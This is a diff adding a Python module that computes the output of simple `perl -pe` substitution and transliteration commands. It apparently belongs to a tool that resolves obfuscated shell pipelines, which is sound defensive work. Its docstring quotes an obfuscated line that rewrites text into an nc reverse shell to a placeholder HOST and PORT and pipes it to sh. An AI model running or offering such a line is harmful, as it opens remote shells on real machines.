@@ -1,0 +1,178 @@
+"""What `perl -pe '...'` prints for a known input, when its code only substitutes and transliterates.
+
+`echo 'ZZ -e /bin/sh HOST PORT' | perl -pe 's/ZZ/nc/' | sh` runs nc. Perl runs the code on each
+line (`$_`, its newline included) and prints the result (perlrun: -p). Computed here: statements
+`s/RE/REPLACEMENT/FLAGS` (flags g, i; `$1`..`$9`, `${N}`, `$&`, `\\n`, `\\t` in the replacement) and
+`tr/SEARCH/REPLACE/` or `y///` (with ranges), separated by `;`, with any non-bracketing delimiter.
+RE runs on RE2 (linear time; what RE2 does not take, such as look-arounds or back-references, is
+unknown). Anything else (-n, -i, -l, other code, the e flag, variables in the replacement) is
+unknown: None.
+"""
+from __future__ import annotations
+
+import re2
+
+from .decode import _tr_set
+from .sed import MAX_OUTPUT, MAX_STEPS, _part, _substitute, _Unknown
+
+MAX_STATEMENTS = 32
+
+
+def output(args: list[str], stdin: str) -> str | None:
+    """What `perl ARGS` prints when `stdin` is its input; None when that is not known."""
+    code = _code(args)
+    if code is None:
+        return None
+    try:
+        statements = _statements(code)
+    except (_Unknown, re2.error):
+        return None
+    lines = stdin.splitlines(keepends=True)
+    if len(lines) * len(statements) > MAX_STEPS:
+        return None
+    budget = [MAX_STEPS]
+    out: list[str] = []
+    size = 0
+    for line in lines:
+        for statement in statements:
+            if statement[0] == "tr":
+                line = line.translate(statement[1])
+                continue
+            _, regex, pieces, every, anchored = statement
+            body, newline = (line[:-1], "\n") if anchored and line.endswith("\n") else (line, "")
+            body, replaced = _substitute(body, regex, pieces, (1, every), budget)
+            if replaced is None:
+                return None
+            line = body + newline
+        out.append(line)
+        size += len(line)
+        if size > MAX_OUTPUT:
+            return None
+    return "".join(out)
+
+
+def _code(args: list[str]) -> str | None:
+    """The -e code of `perl -pe CODE` (or -p -e CODE); None for any other invocation."""
+    code, printing = None, False
+    words = iter(args)
+    for word in words:
+        if word in ("-pe", "-ep"):
+            printing, code = True, next(words, None)
+        elif word == "-p":
+            printing = True
+        elif word == "-e":
+            code = next(words, None)
+        elif word == "-":
+            continue
+        else:
+            return None  # -n, -i, -l, -0, a script or input file, ...
+    return code if printing else None
+
+
+def _statements(code: str) -> list[tuple]:
+    out: list[tuple] = []
+    i, n = 0, len(code)
+    while i < n:
+        ch = code[i]
+        if ch in " \t\n;":
+            i += 1
+            continue
+        if len(out) >= MAX_STATEMENTS:
+            raise _Unknown("too many statements")
+        if code.startswith("tr", i) or ch == "y":
+            i += 2 if code.startswith("tr", i) else 1
+            delim = _delimiter(code, i)
+            search, i = _part(code, i + 1, delim, one_line=False)
+            replace, i = _part(code, i, delim, one_line=False)
+            if i < n and code[i] not in " \t\n;":
+                raise _Unknown("tr flags")
+            source, dest = _tr_set(search), _tr_set(replace)
+            if source is None or dest is None:
+                raise _Unknown("tr set")
+            if not dest:
+                dest = source
+            dest = dest + dest[-1] * (len(source) - len(dest))
+            table: dict[int, str] = {}
+            for a, b in zip(source, dest):
+                table.setdefault(ord(a), b)  # perl: the first mention of a character wins
+            out.append(("tr", table))
+        elif ch == "s":
+            delim = _delimiter(code, i + 1)
+            pattern, i = _part(code, i + 2, delim, one_line=False)
+            replacement, i = _part(code, i, delim, one_line=False)
+            every = case = False
+            while i < n and code[i] not in " \t\n;":
+                if code[i] == "g":
+                    every = True
+                elif code[i] == "i":
+                    case = True
+                else:
+                    raise _Unknown(f"flag {code[i]}")  # e (code), x, m, s, r, ...
+                i += 1
+            if not pattern:
+                raise _Unknown("empty pattern (the last one that matched)")
+            anchored = "$" in pattern.replace("\\$", "")
+            if anchored and ("\\s" in pattern or "\\n" in pattern or "[" in pattern):
+                raise _Unknown("an end anchor beside what may match the newline")
+            compiled = re2.compile(("(?i)" if case else "") + pattern)
+            pieces = _replacement(replacement)
+            if any(type(p) is int and p > (compiled.groups or 0) for p in pieces):
+                raise _Unknown("a group the pattern does not have")
+            out.append(("s", compiled, pieces, every, anchored))
+        else:
+            raise _Unknown(f"code {code[i:i + 10]!r}")
+    return out
+
+
+def _delimiter(code: str, i: int) -> str:
+    delim = code[i:i + 1]
+    if not delim or delim.isalnum() or delim in " \t\n\\({[<_":
+        raise _Unknown("delimiter")
+    return delim
+
+
+def _replacement(text: str) -> list[str | int]:
+    """Literal pieces and group numbers (0 for `$&`); a variable other than these is unknown."""
+    pieces: list[str | int] = []
+    literal: list[str] = []
+    i, n = 0, len(text)
+
+    def group(number: int) -> None:
+        nonlocal literal
+        pieces.append("".join(literal))
+        literal = []
+        pieces.append(number)
+
+    while i < n:
+        ch = text[i]
+        if ch == "$":
+            rest = text[i + 1:]
+            if rest[:1] == "&":
+                group(0)
+                i += 2
+                continue
+            if rest[:1].isdigit():
+                group(int(rest[0]))
+                i += 2
+                continue
+            if rest[:1] == "{" and rest[1:2].isdigit() and rest[2:3] == "}":
+                group(int(rest[1]))
+                i += 4
+                continue
+            raise _Unknown("a variable in the replacement")
+        if ch == "@" and i + 1 < n and (text[i + 1].isalpha() or text[i + 1] in "_{"):
+            raise _Unknown("an array in the replacement")
+        if ch == "\\" and i + 1 < n:
+            nxt = text[i + 1]
+            if nxt.isdigit():
+                group(int(nxt))
+            elif nxt in "LUElu":
+                raise _Unknown("case conversion")
+            else:
+                literal.append({"n": "\n", "t": "\t"}.get(nxt, nxt))
+            i += 2
+            continue
+        literal.append(ch)
+        i += 1
+    pieces.append("".join(literal))
+    return [p for p in pieces if p != ""]
